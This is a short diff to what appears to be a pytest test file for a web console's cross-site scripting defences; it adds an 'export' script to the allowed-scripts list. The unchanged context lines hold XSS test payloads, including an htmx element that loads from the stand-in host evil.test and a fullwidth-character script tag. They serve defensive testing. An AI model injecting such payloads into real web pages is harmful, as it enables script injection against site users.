@@ -40,7 +40,9 @@ PAYLOADS = (
     "<div hx-get=//evil.test hx-trigger=load>",
     "＜script＞alert(1)＜/script＞",  # noqa: RUF001  # some databases fold these
 )
-ALLOWED_SCRIPTS = tuple(f"/console/static/{name}-" for name in ("htmx.min", "console", "uPlot.iife.min", "charts"))
+ALLOWED_SCRIPTS = tuple(
+    f"/console/static/{name}-" for name in ("htmx.min", "console", "export", "uPlot.iife.min", "charts")
+)
 
 
 @pytest.fixture
